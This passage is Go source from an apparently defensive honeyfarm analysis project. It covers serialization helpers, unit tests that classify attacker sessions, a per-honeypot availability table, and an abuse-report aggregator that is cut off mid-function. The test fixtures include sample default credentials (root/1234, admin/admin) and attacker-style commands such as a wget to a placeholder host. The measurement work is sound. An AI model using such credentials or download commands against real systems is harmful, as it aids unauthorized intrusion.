		b.Uint64(uint64(int64(a.Counts[c])))
		b.Uint64(uint64(int64(a.SSHCounts[c])))
	}
	b.Uint64(uint64(int64(a.SSH)))
}

func decodeCats(r *wire.Reader) *CategoryAccum {
	a := new(CategoryAccum)
	if n := r.Uint32(); r.Err() == nil && n != uint32(NumCategories) {
		r.SetErrf("partials category count %d, want %d", n, NumCategories)
		return a
	}
	for c := 0; c < int(NumCategories); c++ {
		a.Counts[c] = int(int64(r.Uint64()))
		a.SSHCounts[c] = int(int64(r.Uint64()))
	}
	a.SSH = int(int64(r.Uint64()))
	return a
}

func encodePots(b *wire.Builder, a *PotAccum) {
	b.Uint32(uint32(len(a.sessions)))
	for i := range a.sessions {
		b.Uint64(uint64(int64(a.sessions[i])))
		encodeStringSet(b, a.clients[i])
		encodeStringSet(b, a.hashes[i])
	}
}

func decodePots(r *wire.Reader) *PotAccum {
	n := r.Uint32()
	if r.Err() != nil || !fitsRemaining(r, n, 8+4+4) {
		r.SetErrf("partials pot table truncated")
		return NewPotAccum(0)
	}
	a := NewPotAccum(int(n))
	for i := range a.sessions {
		a.sessions[i] = int(int64(r.Uint64()))
		a.clients[i] = decodeStringSet(r)
		a.hashes[i] = decodeStringSet(r)
	}
	return a
}

func encodeClients(b *wire.Builder, a *ClientAccum) {
	b.Uint32(uint32(int32(a.cat)))
	ips := sortedStringKeys(len(a.m), func(f func(string)) {
		for ip := range a.m {
			f(ip)
		}
	})
	b.Uint32(uint32(len(ips)))
	for _, ip := range ips {
		acc := a.m[ip]
		b.Text(ip)
		b.Uint64(uint64(int64(acc.sessions)))
		encodeIntSet(b, acc.pots)
		encodeIntSet(b, acc.days)
		b.Byte(acc.cats)
	}
}

func decodeClients(r *wire.Reader) *ClientAccum {
	a := NewClientAccum(int(int32(r.Uint32())))
	n := r.Uint32()
	if r.Err() != nil || !fitsRemaining(r, n, 4+8+4+4+1) {
		r.SetErrf("partials client table truncated")
		return a
	}
	for i := uint32(0); i < n; i++ {
		ip := r.Text()
		a.m[ip] = &clientAcc{
			sessions: int(int64(r.Uint64())),
			pots:     decodeIntSet(r),
			days:     decodeIntSet(r),
			cats:     r.Byte(),
		}
	}
	return a
}

func encodeCountries(b *wire.Builder, a *CountryAccum) {
	countries := sortedStringKeys(len(a.m), func(f func(string)) {
		for c := range a.m {
			f(c)
		}
	})
	b.Uint32(uint32(len(countries)))
	for _, c := range countries {
		b.Text(c)
		encodeStringSet(b, a.m[c])
	}
}

func decodeCountries(r *wire.Reader) *CountryAccum {
	// No registry: a decoded accumulator only merges and finalizes;
	// Add (which needs one to locate IPs) stays on the shard side.
	a := &CountryAccum{m: make(map[string]map[string]struct{})}
	n := r.Uint32()
	if r.Err() != nil || !fitsRemaining(r, n, 4+4) {
		r.SetErrf("partials country table truncated")
		return a
	}
	for i := uint32(0); i < n; i++ {
		c := r.Text()
		a.m[c] = decodeStringSet(r)
	}
	return a
}

func encodeHashes(b *wire.Builder, a *HashAccum) {
	hashes := sortedStringKeys(len(a.m), func(f func(string)) {
		for h := range a.m {
			f(h)
		}
	})
	b.Uint32(uint32(len(hashes)))
	for _, h := range hashes {
		acc := a.m[h]
		b.Text(h)
		b.Uint64(uint64(int64(acc.sessions)))
		encodeStringSet(b, acc.ips)
		encodeIntSet(b, acc.days)
		encodeIntSet(b, acc.pots)
		b.Uint64(uint64(int64(acc.first)))
		b.Uint64(uint64(int64(acc.last)))
	}
}

func decodeHashes(r *wire.Reader) *HashAccum {
	a := NewHashAccum()
	n := r.Uint32()
	if r.Err() != nil || !fitsRemaining(r, n, 4+8+4+4+4+8+8) {
		r.SetErrf("partials hash table truncated")
		return a
	}
	for i := uint32(0); i < n; i++ {
		h := r.Text()
		a.m[h] = &hashAcc{
			sessions: int(int64(r.Uint64())),
			ips:      decodeStringSet(r),
			days:     decodeIntSet(r),
			pots:     decodeIntSet(r),
			first:    int(int64(r.Uint64())),
			last:     int(int64(r.Uint64())),
		}
	}
	return a
}

// ---- set helpers ----

func encodeStringSet(b *wire.Builder, set map[string]struct{}) {
	keys := sortedStringKeys(len(set), func(f func(string)) {
		for k := range set {
			f(k)
		}
	})
	b.Uint32(uint32(len(keys)))
	for _, k := range keys {
		b.Text(k)
	}
}

func decodeStringSet(r *wire.Reader) map[string]struct{} {
	n := r.Uint32()
	if r.Err() != nil || !fitsRemaining(r, n, 4) {
		r.SetErrf("partials string set truncated")
		return map[string]struct{}{}
	}
	set := make(map[string]struct{}, n)
	for i := uint32(0); i < n; i++ {
		set[r.Text()] = struct{}{}
	}
	return set
}

func encodeIntSet(b *wire.Builder, set map[int]struct{}) {
	keys := make([]int, 0, len(set))
	for k := range set {
		keys = append(keys, k)
	}
	sort.Ints(keys)
	b.Uint32(uint32(len(keys)))
	for _, k := range keys {
		b.Uint64(uint64(int64(k)))
	}
}

func decodeIntSet(r *wire.Reader) map[int]struct{} {
	n := r.Uint32()
	if r.Err() != nil || !fitsRemaining(r, n, 8) {
		r.SetErrf("partials int set truncated")
		return map[int]struct{}{}
	}
	set := make(map[int]struct{}, n)
	for i := uint32(0); i < n; i++ {
		set[int(int64(r.Uint64()))] = struct{}{}
	}
	return set
}

// sortedStringKeys collects keys via the visit callback and returns
// them sorted — the one place map iteration order is laundered out of
// the encoding.
func sortedStringKeys(n int, visit func(func(string))) []string {
	keys := make([]string, 0, n)
	visit(func(k string) { keys = append(keys, k) })
	sort.Strings(keys)
	return keys
}

// fitsRemaining bounds a decoded count before allocating: n entries of
// at least minLen bytes each must fit in the reader's remaining buffer.
func fitsRemaining(r *wire.Reader, n uint32, minLen int) bool {
	return uint64(n)*uint64(minLen) <= uint64(r.Remaining())
}
