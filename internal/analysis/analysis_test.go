package analysis

import (
	"fmt"
	"testing"
	"testing/quick"
	"time"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
)

var epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)

// mk builds a session record with the given traits.
type mk struct {
	day      int
	pot      int
	ip       string
	proto    honeypot.Protocol
	logins   []honeypot.LoginAttempt
	commands []honeypot.CommandRecord
	uris     []string
	files    []honeypot.FileRecord
	dur      time.Duration
}

func (m mk) rec() *honeypot.SessionRecord {
	start := epoch.Add(time.Duration(m.day)*24*time.Hour + 6*time.Hour)
	dur := m.dur
	if dur == 0 {
		dur = 10 * time.Second
	}
	return &honeypot.SessionRecord{
		HoneypotID: m.pot, ClientIP: m.ip, Protocol: m.proto,
		Start: start, End: start.Add(dur),
		Logins: m.logins, Commands: m.commands, URIs: m.uris, Files: m.files,
	}
}

func okLogin() []honeypot.LoginAttempt {
	return []honeypot.LoginAttempt{{User: "root", Password: "1234", Success: true}}
}

func failLogin() []honeypot.LoginAttempt {
	return []honeypot.LoginAttempt{{User: "admin", Password: "admin"}}
}

func cmd(s string) []honeypot.CommandRecord {
	return []honeypot.CommandRecord{{Input: s, Known: true}}
}

func TestClassifyTruthTable(t *testing.T) {
	cases := []struct {
		name string
		m    mk
		want Category
	}{
		{"scan", mk{}, NoCred},
		{"failed login", mk{logins: failLogin()}, FailLog},
		{"login no cmd", mk{logins: okLogin()}, NoCmd},
		{"login cmd", mk{logins: okLogin(), commands: cmd("uname")}, Cmd},
		{"login cmd uri", mk{logins: okLogin(), commands: cmd("wget http://x"), uris: []string{"http://x"}}, CmdURI},
		{"fail then success", mk{logins: append(failLogin(), okLogin()...), commands: cmd("ls")}, Cmd},
	}
	for _, c := range cases {
		if got := Classify(c.m.rec()); got != c.want {
			t.Errorf("%s: Classify = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestBehaviorMapping(t *testing.T) {
	if BehaviorOf(NoCred) != Scanning || BehaviorOf(FailLog) != Scouting {
		t.Error("behavior mapping wrong")
	}
	for _, c := range []Category{NoCmd, Cmd, CmdURI} {
		if BehaviorOf(c) != Intrusion {
			t.Errorf("%v should be intrusion", c)
		}
	}
	if Scanning.String() != "scanning" || Intrusion.String() != "intrusion" {
		t.Error("behavior strings wrong")
	}
}

func TestCategoryString(t *testing.T) {
	if NoCred.String() != "NO_CRED" || CmdURI.String() != "CMD+URI" {
		t.Error("category names wrong")
	}
	if Category(200).String() != "UNKNOWN" {
		t.Error("out of range should be UNKNOWN")
	}
}

// Property: classification is total and consistent with its definition.
func TestQuickClassifyInvariants(t *testing.T) {
	f := func(nLogins uint8, success bool, nCmds, nURIs uint8) bool {
		r := &honeypot.SessionRecord{}
		for i := 0; i < int(nLogins%4); i++ {
			r.Logins = append(r.Logins, honeypot.LoginAttempt{User: "x"})
		}
		if success && len(r.Logins) > 0 {
			r.Logins[0].Success = true
		}
		for i := 0; i < int(nCmds%4); i++ {
			r.Commands = append(r.Commands, honeypot.CommandRecord{Input: "c"})
		}
		for i := 0; i < int(nURIs%3); i++ {
			r.URIs = append(r.URIs, "http://u")
		}
		c := Classify(r)
		if len(r.Logins) == 0 {
			return c == NoCred
		}
		if !r.LoggedIn() {
			return c == FailLog
		}
		if len(r.Commands) == 0 {
			return c == NoCmd
		}
		if len(r.URIs) == 0 {
			return c == Cmd
		}
		return c == CmdURI
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func buildStore(ms ...mk) *store.Store {
	s := store.New(epoch)
	for _, m := range ms {
		s.Add(m.rec())
	}
	return s
}

func TestComputeCategoryShares(t *testing.T) {
	s := buildStore(
		mk{proto: honeypot.Telnet},                                      // NO_CRED telnet
		mk{proto: honeypot.SSH, logins: failLogin()},                    // FAIL_LOG ssh
		mk{proto: honeypot.SSH, logins: okLogin()},                      // NO_CMD ssh
		mk{proto: honeypot.SSH, logins: okLogin(), commands: cmd("ls")}, // CMD ssh
	)
	cs := ComputeCategoryShares(s)
	if cs.Total != 4 {
		t.Fatalf("total = %d", cs.Total)
	}
	if cs.Overall[NoCred] != 0.25 || cs.Overall[Cmd] != 0.25 {
		t.Errorf("shares = %v", cs.Overall)
	}
	if cs.SSHTotal != 0.75 {
		t.Errorf("ssh total = %v", cs.SSHTotal)
	}
	if cs.SSHShareOfCategory[NoCred] != 0 || cs.SSHShareOfCategory[FailLog] != 1 {
		t.Errorf("per-category ssh = %v", cs.SSHShareOfCategory)
	}
	empty := ComputeCategoryShares(store.New(epoch))
	if empty.Total != 0 {
		t.Error("empty store should have zero total")
	}
}

func TestTopPasswordsAndUsernames(t *testing.T) {
	s := buildStore(
		mk{logins: []honeypot.LoginAttempt{{User: "root", Password: "admin", Success: true}}},
		mk{logins: []honeypot.LoginAttempt{{User: "root", Password: "admin", Success: true}}},
		mk{logins: []honeypot.LoginAttempt{{User: "root", Password: "1234", Success: true}}},
		mk{logins: []honeypot.LoginAttempt{{User: "nproc", Password: "nope"}}},
	)
	top := TopPasswords(s, 2)
	if len(top) != 2 || top[0].Value != "admin" || top[0].Count != 2 {
		t.Errorf("top passwords = %+v", top)
	}
	users := TopUsernames(s, 10)
	if len(users) != 2 {
		t.Errorf("usernames = %+v", users)
	}
}

func TestTopCommandsSplitsSegments(t *testing.T) {
	s := buildStore(
		mk{logins: okLogin(), commands: []honeypot.CommandRecord{
			{Input: "cat /proc/cpuinfo | grep name | wc -l", Known: true},
			{Input: "cat /proc/cpuinfo", Known: true},
		}},
	)
	top := TopCommands(s, 5)
	if top[0].Value != "cat /proc/cpuinfo" || top[0].Count != 2 {
		t.Errorf("top commands = %+v", top)
	}
}

func TestComputePerHoneypotAndRank(t *testing.T) {
	s := buildStore(
		mk{pot: 0, ip: "1.1.1.1"},
		mk{pot: 0, ip: "2.2.2.2"},
		mk{pot: 1, ip: "1.1.1.1", logins: okLogin(), commands: cmd("x"),
			files: []honeypot.FileRecord{{Hash: "aaa"}}},
		mk{pot: 99, ip: "3.3.3.3"}, // out of range, ignored
	)
	per := ComputePerHoneypot(s, 2)
	if per[0].Sessions != 2 || per[0].Clients != 2 || per[0].Hashes != 0 {
		t.Errorf("pot0 = %+v", per[0])
	}
	if per[1].Sessions != 1 || per[1].Hashes != 1 {
		t.Errorf("pot1 = %+v", per[1])
	}
	rank := SessionRank(per)
	if rank[0] != 2 || rank[1] != 1 {
		t.Errorf("rank = %v", rank)
	}
}

func TestDailyMatrixAndSeries(t *testing.T) {
	s := buildStore(
		mk{day: 0, pot: 0},
		mk{day: 0, pot: 1},
		mk{day: 2, pot: 0},
		mk{day: 2, pot: 0, logins: okLogin()},
	)
	m := DailyMatrix(s, 2, -1)
	if len(m) != 3 {
		t.Fatalf("days = %d", len(m))
	}
	if m[0][0] != 1 || m[0][1] != 1 || m[2][0] != 2 {
		t.Errorf("matrix = %v", m)
	}
	// Filtered to NO_CRED only.
	mc := DailyMatrix(s, 2, int(NoCred))
	if mc[2][0] != 1 {
		t.Errorf("filtered matrix = %v", mc)
	}
	series := PercentileSeries(m)
	if len(series.Bands) != 3 {
		t.Errorf("series bands = %d", len(series.Bands))
	}
	if series.Bands[0].Median != 1 {
		t.Errorf("day0 median = %v", series.Bands[0].Median)
	}
}

func TestTopPotsAndFilter(t *testing.T) {
	per := []PerHoneypot{{Sessions: 5}, {Sessions: 100}, {Sessions: 50}, {Sessions: 1}}
	top := TopPotsByActivity(per, 0.5)
	if len(top) != 2 || top[0] != 1 || top[1] != 2 {
		t.Errorf("top = %v", top)
	}
	m := [][]float64{{1, 2, 3, 4}}
	f := FilterMatrixPots(m, top)
	if len(f[0]) != 2 || f[0][0] != 2 || f[0][1] != 3 {
		t.Errorf("filtered = %v", f)
	}
}

func TestCategoryTimeline(t *testing.T) {
	s := buildStore(
		mk{day: 0},
		mk{day: 0, logins: failLogin()},
		mk{day: 1, logins: okLogin(), commands: cmd("ls")},
	)
	tl := ComputeCategoryTimeline(s)
	if len(tl.Total) != 2 || tl.Total[0] != 2 || tl.Total[1] != 1 {
		t.Errorf("totals = %v", tl.Total)
	}
	if tl.PerDay[0][NoCred] != 1 || tl.PerDay[0][FailLog] != 1 || tl.PerDay[1][Cmd] != 1 {
		t.Errorf("per day = %v", tl.PerDay)
	}
}

func TestDurationECDFs(t *testing.T) {
	s := buildStore(
		mk{dur: 5 * time.Second},
		mk{dur: 180 * time.Second, logins: okLogin()},
	)
	e := DurationECDFs(s)
	if e[NoCred].Len() != 1 || e[NoCmd].Len() != 1 {
		t.Errorf("ecdf sizes: %d %d", e[NoCred].Len(), e[NoCmd].Len())
	}
	if got := e[NoCmd].Quantile(0.5); got != 180 {
		t.Errorf("NO_CMD median duration = %v", got)
	}
}

func TestComputeHashStats(t *testing.T) {
	s := buildStore(
		mk{day: 0, pot: 0, ip: "1.1.1.1", logins: okLogin(), commands: cmd("x"),
			files: []honeypot.FileRecord{{Hash: "h1"}, {Hash: "h1"}}}, // dup within session counts once
		mk{day: 1, pot: 1, ip: "2.2.2.2", logins: okLogin(), commands: cmd("x"),
			files: []honeypot.FileRecord{{Hash: "h1"}}},
		mk{day: 1, pot: 1, ip: "2.2.2.2", logins: okLogin(), commands: cmd("x"),
			files: []honeypot.FileRecord{{Hash: "h2"}}},
	)
	hs := ComputeHashStats(s, func(h string) string {
		if h == "h1" {
			return "mirai"
		}
		return "unknown"
	})
	if len(hs) != 2 {
		t.Fatalf("hashes = %d", len(hs))
	}
	var h1 HashStat
	for _, h := range hs {
		if h.Hash == "h1" {
			h1 = h
		}
	}
	if h1.Sessions != 2 || h1.ClientIPs != 2 || h1.Days != 2 || h1.Honeypots != 2 {
		t.Errorf("h1 = %+v", h1)
	}
	if h1.Tag != "mirai" || h1.FirstDay != 0 || h1.LastDay != 1 {
		t.Errorf("h1 meta = %+v", h1)
	}

	bySess := SortHashStats(hs, BySessions)
	if bySess[0].Hash != "h1" {
		t.Errorf("sort by sessions = %v", bySess)
	}
	byIPs := SortHashStats(hs, ByClientIPs)
	if byIPs[0].Hash != "h1" {
		t.Errorf("sort by ips = %v", byIPs)
	}
	byDays := SortHashStats(hs, ByDays)
	if byDays[0].Hash != "h1" {
		t.Errorf("sort by days = %v", byDays)
	}
}

func TestHashVisibility(t *testing.T) {
	hs := []HashStat{
		{Hash: "a", Honeypots: 1},
		{Hash: "b", Honeypots: 1},
		{Hash: "c", Honeypots: 15},
		{Hash: "d", Honeypots: 120},
	}
	v := ComputeHashVisibility(hs, 221)
	if v.Single != 0.5 {
		t.Errorf("single = %v", v.Single)
	}
	if v.MoreThan10 != 0.5 {
		t.Errorf(">10 = %v", v.MoreThan10)
	}
	if v.MoreThanHalf != 1 {
		t.Errorf(">half = %v", v.MoreThanHalf)
	}
	if empty := ComputeHashVisibility(nil, 221); empty.Total != 0 {
		t.Error("empty should be zero")
	}
}

func TestHashFreshness(t *testing.T) {
	s := buildStore(
		mk{day: 0, logins: okLogin(), commands: cmd("x"), files: []honeypot.FileRecord{{Hash: "a"}}},
		mk{day: 1, logins: okLogin(), commands: cmd("x"), files: []honeypot.FileRecord{{Hash: "a"}}},
		mk{day: 1, logins: okLogin(), commands: cmd("x"), files: []honeypot.FileRecord{{Hash: "b"}}},
	)
	hf := ComputeHashFreshness(s)
	if hf.UniqueHashes[0] != 1 || hf.UniqueHashes[1] != 2 {
		t.Errorf("unique = %v", hf.UniqueHashes)
	}
	if hf.FreshAll[0] != 1 {
		t.Errorf("day0 fresh = %v", hf.FreshAll[0])
	}
	if hf.FreshAll[1] != 0.5 {
		t.Errorf("day1 fresh = %v", hf.FreshAll[1])
	}
}

func TestClientRanks(t *testing.T) {
	s := buildStore(
		mk{ip: "1.1.1.1", logins: okLogin(), commands: cmd("x"), files: []honeypot.FileRecord{{Hash: "a"}}},
		mk{ip: "1.1.1.1", logins: okLogin(), commands: cmd("x"), files: []honeypot.FileRecord{{Hash: "b"}}},
		mk{ip: "2.2.2.2", logins: okLogin(), commands: cmd("x"), files: []honeypot.FileRecord{{Hash: "a"}}},
	)
	hs := ComputeHashStats(s, nil)
	hr := HashClientRank(hs)
	if len(hr) != 2 || hr[0] != 2 { // hash "a" seen from 2 IPs
		t.Errorf("hash rank = %v", hr)
	}
	cr := ClientHashRank(s)
	if len(cr) != 2 || cr[0] != 2 { // client 1.1.1.1 dropped 2 hashes
		t.Errorf("client rank = %v", cr)
	}
}

func TestCampaignDurationECDFs(t *testing.T) {
	hs := []HashStat{
		{Hash: "a", Days: 1, Tag: "mirai"},
		{Hash: "b", Days: 30, Tag: "trojan"},
		{Hash: "c", Days: 1, Tag: "mirai"},
	}
	e := CampaignDurationECDFs(hs)
	if e["all"].Len() != 3 || e["mirai"].Len() != 2 || e["trojan"].Len() != 1 {
		t.Errorf("ecdf sizes wrong")
	}
	if e["mirai"].Quantile(1) != 1 {
		t.Errorf("mirai max = %v", e["mirai"].Quantile(1))
	}
}

func TestClientStats(t *testing.T) {
	s := buildStore(
		mk{day: 0, pot: 0, ip: "1.1.1.1"},
		mk{day: 1, pot: 1, ip: "1.1.1.1", logins: failLogin()},
		mk{day: 0, pot: 0, ip: "2.2.2.2"},
	)
	clients := ComputeClientStats(s, -1)
	if len(clients) != 2 {
		t.Fatalf("clients = %d", len(clients))
	}
	var c1 ClientStat
	for _, c := range clients {
		if c.IP == "1.1.1.1" {
			c1 = c
		}
	}
	if c1.Sessions != 2 || c1.Honeypots != 2 || c1.ActiveDays != 2 {
		t.Errorf("c1 = %+v", c1)
	}
	if !c1.HasCategory(NoCred) || !c1.HasCategory(FailLog) || c1.NumCategoriesSeen() != 2 {
		t.Errorf("c1 categories = %08b", c1.Categories)
	}
	if got := MultiCategoryShare(clients); got != 0.5 {
		t.Errorf("multi share = %v", got)
	}
	// Restricted to NO_CRED.
	nc := ComputeClientStats(s, int(NoCred))
	if len(nc) != 2 {
		t.Errorf("NO_CRED clients = %d", len(nc))
	}
	if MultiCategoryShare(nil) != 0 {
		t.Error("empty share should be 0")
	}
}

func TestCategoryCombos(t *testing.T) {
	s := buildStore(
		mk{day: 0, ip: "1.1.1.1"},                                        // NO_CRED
		mk{day: 0, ip: "1.1.1.1", logins: failLogin()},                   // + FAIL_LOG same day
		mk{day: 0, ip: "2.2.2.2", logins: okLogin(), commands: cmd("x")}, // CMD only
		mk{day: 1, ip: "1.1.1.1"},                                        // NO_CRED next day
	)
	daily := CategoryCombosDaily(s)
	if daily[0][ComboKey(1|2)] != 1 { // NO_CRED+FAIL_LOG
		t.Errorf("day0 combos = %v", daily[0])
	}
	if daily[0][ComboKey(4)] != 1 {
		t.Errorf("day0 cmd-only = %v", daily[0])
	}
	if daily[1][ComboKey(1)] != 1 {
		t.Errorf("day1 = %v", daily[1])
	}
	total := TotalComboCounts(s)
	if total[ComboKey(1|2)] != 1 || total[ComboKey(4)] != 1 {
		t.Errorf("total combos = %v", total)
	}
	if ComboKey(1|4).String() != "NO_CRED+CMD" {
		t.Errorf("combo name = %s", ComboKey(1|4).String())
	}
	if ComboKey(0).String() != "none" {
		t.Error("empty combo name")
	}
}

func TestClientCountriesAndRegionalDiversity(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	deps := geo.DefaultPlacement(reg, 1)
	s := store.New(epoch)
	// Three clients: one sharing the honeypot's country, one on the same
	// continent, one far away.
	pot := deps[0]
	potLoc, _ := reg.Lookup(pot.IP)
	var sameCountry, sameCont, far string
	for _, as := range reg.ASes() {
		loc, _ := reg.Lookup(as.Base)
		switch {
		case sameCountry == "" && loc.Country == potLoc.Country:
			sameCountry = loc.IP.String()
		case sameCont == "" && loc.Country != potLoc.Country && loc.Continent == potLoc.Continent:
			sameCont = loc.IP.String()
		case far == "" && loc.Continent != potLoc.Continent:
			far = loc.IP.String()
		}
	}
	if sameCountry == "" || sameCont == "" || far == "" {
		t.Fatal("could not find test IPs")
	}
	for _, ip := range []string{sameCountry, sameCont, far} {
		s.Add(mk{day: 0, pot: pot.ID, ip: ip}.rec())
	}
	cc := ClientCountries(s, reg, nil)
	if len(cc) < 2 {
		t.Fatalf("countries = %+v", cc)
	}
	rd := ComputeRegionalDiversity(s, reg, deps, nil)
	if rd.Clients[0] != 3 {
		t.Fatalf("day0 clients = %d", rd.Clients[0])
	}
	fr := rd.Fractions[0]
	if fr[CountryOnly] == 0 || fr[ContinentOnly] == 0 || fr[OutOnly] == 0 {
		t.Errorf("fractions = %v", fr)
	}
	mean := rd.MeanFractions()
	sum := 0.0
	for _, v := range mean {
		sum += v
	}
	if sum < 0.99 || sum > 1.01 {
		t.Errorf("mean fractions sum = %v", sum)
	}
}

func TestRegionClassification(t *testing.T) {
	cases := []struct {
		country, continent, out bool
		want                    RegionClass
	}{
		{true, false, false, CountryOnly},
		{true, true, false, CountryMixed},
		{true, false, true, CountryMixed},
		{false, true, false, ContinentOnly},
		{false, true, true, ContinentAndOut},
		{false, false, true, OutOnly},
	}
	for _, c := range cases {
		if got := classifyRelations(c.country, c.continent, c.out); got != c.want {
			t.Errorf("classifyRelations(%v,%v,%v) = %v, want %v", c.country, c.continent, c.out, got, c.want)
		}
	}
	if OutOnly.String() != "out-of-continent" || CountryOnly.String() != "same-country-only" {
		t.Error("region class names wrong")
	}
}

func TestDailyUniqueClients(t *testing.T) {
	s := buildStore(
		mk{day: 0, ip: "1.1.1.1"},
		mk{day: 0, ip: "1.1.1.1"}, // same IP, same day: counted once
		mk{day: 0, ip: "2.2.2.2", logins: failLogin()},
	)
	daily := DailyUniqueClients(s)
	if daily[0][NoCred] != 1 || daily[0][FailLog] != 1 {
		t.Errorf("daily = %v", daily[0])
	}
}

func TestMedianDailySessions(t *testing.T) {
	s := buildStore(mk{day: 0}, mk{day: 0}, mk{day: 1})
	if got := MedianDailySessions(s); got != 1.5 && got != 1 && got != 2 {
		t.Errorf("median = %v", got)
	}
}

func BenchmarkClassify(b *testing.B) {
	recs := make([]*honeypot.SessionRecord, 5)
	recs[0] = mk{}.rec()
	recs[1] = mk{logins: failLogin()}.rec()
	recs[2] = mk{logins: okLogin()}.rec()
	recs[3] = mk{logins: okLogin(), commands: cmd("x")}.rec()
	recs[4] = mk{logins: okLogin(), commands: cmd("x"), uris: []string{"u"}}.rec()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Classify(recs[i%5])
	}
}

func BenchmarkComputeHashStats(b *testing.B) {
	s := store.New(epoch)
	for i := 0; i < 50000; i++ {
		s.Add(mk{
			day: i % 480, pot: i % 221, ip: fmt.Sprintf("10.0.%d.%d", i/250%250, i%250),
			logins: okLogin(), commands: cmd("x"),
			files: []honeypot.FileRecord{{Hash: fmt.Sprintf("h%d", i%3000)}},
		}.rec())
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ComputeHashStats(s, nil)
	}
}

func TestTopClientVersions(t *testing.T) {
	s := store.New(epoch)
	for i := 0; i < 3; i++ {
		r := mk{ip: "1.1.1.1"}.rec()
		r.ClientVersion = "SSH-2.0-libssh2_1.8.0"
		s.Add(r)
	}
	r := mk{ip: "2.2.2.2"}.rec()
	r.ClientVersion = "SSH-2.0-Go"
	s.Add(r)
	s.Add(mk{ip: "3.3.3.3", proto: honeypot.Telnet}.rec()) // no version
	top := TopClientVersions(s, 5)
	if len(top) != 2 || top[0].Value != "SSH-2.0-libssh2_1.8.0" || top[0].Count != 3 {
		t.Errorf("top versions = %+v", top)
	}
}

func TestDayHelpers(t *testing.T) {
	s := buildStore(mk{day: 2})
	if got := ObservationDays(s); got != 3 {
		t.Errorf("ObservationDays = %d, want 3", got)
	}
	mid := DayTime(s, 2)
	if s.Day(mid) != 2 {
		t.Errorf("DayTime(2) maps back to day %d", s.Day(mid))
	}
}
