package analysis

// Per-honeypot availability: the paper's honeyfarm ran in the real
// Internet for 486 days, and per-honeypot activity gaps are part of the
// measured signal. This table joins the observed session counts with a
// fault plan's downtime and drop accounting so a faulted run reports
// what was lost per pot instead of silently shrinking the dataset.

import (
	"honeyfarm/internal/faults"
	"honeyfarm/internal/store"
)

// PotAvailability is one honeypot's row of the availability table.
type PotAvailability struct {
	Pot int
	// Sessions is the number of records the pot actually collected.
	Sessions int
	// DownDays is how many observation days the pot spent inside outage
	// windows; Availability is the complementary uptime fraction.
	DownDays     int
	Availability float64
	// DowntimeDrops counts sessions lost to outage windows and ConnDrops
	// those lost to connection-level faults (refuse/reset/stall).
	DowntimeDrops int
	ConnDrops     int
	// SinkDrops counts finished sessions the collector discarded (pot
	// down at record time, or shutdown past the drain deadline) — the
	// durability-loss column, distinct from the injected-fault drops.
	SinkDrops int
}

// ComputeAvailability builds the per-pot availability table for a run.
// rep may be nil (a fault-free run): every pot then shows full
// availability and zero drops. days must be positive.
func ComputeAvailability(s *store.Store, rep *faults.Report, numPots, days int) []PotAvailability {
	return AvailabilityFromPer(ComputePerHoneypot(s, numPots), rep, days)
}

// AvailabilityFromPer builds the availability table from an
// already-computed per-honeypot table (a PotAccum finalize), so the
// incremental query engine can derive it without a store.
func AvailabilityFromPer(per []PerHoneypot, rep *faults.Report, days int) []PotAvailability {
	numPots := len(per)
	out := make([]PotAvailability, numPots)
	for i := range out {
		row := PotAvailability{Pot: i, Sessions: per[i].Sessions, Availability: 1}
		if rep != nil && i < len(rep.Pots) {
			pr := rep.Pots[i]
			row.DownDays = pr.DownDays
			row.DowntimeDrops = pr.DowntimeDrops
			row.ConnDrops = pr.ConnDrops
			row.SinkDrops = pr.SinkDrops
			if days > 0 {
				row.Availability = 1 - float64(pr.DownDays)/float64(days)
			}
		}
		out[i] = row
	}
	return out
}

// TotalDropped sums every drop counter across the table.
func TotalDropped(rows []PotAvailability) int {
	total := 0
	for _, r := range rows {
		total += r.DowntimeDrops + r.ConnDrops + r.SinkDrops
	}
	return total
}
