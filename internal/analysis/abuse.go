package analysis

import (
	"sort"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/store"
)

// AbuseReport aggregates one AS's hostile clients — the data needed for
// the notification campaign the paper's conclusion announces ("we plan
// to coordinate with the honeyfarm operator with the aim to jointly
// notify networks participating in connections to the honeyfarm").
type AbuseReport struct {
	ASN       uint32
	Country   string
	Type      geo.NetworkType
	ClientIPs int
	Sessions  int
	// IntrusionSessions are the NO_CMD/CMD/CMD+URI subset.
	IntrusionSessions int
	// Hashes is the number of distinct malware hashes dropped from the AS.
	Hashes int
	// ExampleIPs lists up to three of the AS's most active clients.
	ExampleIPs []string
}

// ComputeAbuseReports builds per-AS reports, sorted by intrusion
// sessions descending. minSessions filters out incidental ASes.
func ComputeAbuseReports(s *store.Store, reg *geo.Registry, minSessions int) []AbuseReport {
	type acc struct {
		ips        map[string]int
		sessions   int
		intrusions int
		hashes     map[string]struct{}
		country    string
		typ        geo.NetworkType
	}
	byAS := make(map[uint32]*acc)
	for _, r := range s.Records() {
		loc, ok := locate(reg, r.ClientIP)
		if !ok {
			continue
		}
		a := byAS[loc.ASN]
		if a == nil {
			a = &acc{
				ips: make(map[string]int), hashes: make(map[string]struct{}),
				country: loc.Country, typ: loc.Type,
			}
			byAS[loc.ASN] = a
		}
		a.ips[r.ClientIP]++
		a.sessions++
		if BehaviorOf(Classify(r)) == Intrusion {
			a.intrusions++
		}
		for _, f := range r.Files {
			a.hashes[f.Hash] = struct{}{}
		}
	}
	out := make([]AbuseReport, 0, len(byAS))
	for asn, a := range byAS {
		if a.sessions < minSessions {
			continue
		}
		rep := AbuseReport{
			ASN: asn, Country: a.country, Type: a.typ,
			ClientIPs: len(a.ips), Sessions: a.sessions,
			IntrusionSessions: a.intrusions, Hashes: len(a.hashes),
		}
		type ipCount struct {
			ip string
			n  int
		}
		tops := make([]ipCount, 0, len(a.ips))
		for ip, n := range a.ips {
			tops = append(tops, ipCount{ip, n})
		}
		sort.Slice(tops, func(i, j int) bool {
			if tops[i].n != tops[j].n {
				return tops[i].n > tops[j].n
			}
			return tops[i].ip < tops[j].ip
		})
		for i := 0; i < 3 && i < len(tops); i++ {
			rep.ExampleIPs = append(rep.ExampleIPs, tops[i].ip)
		}
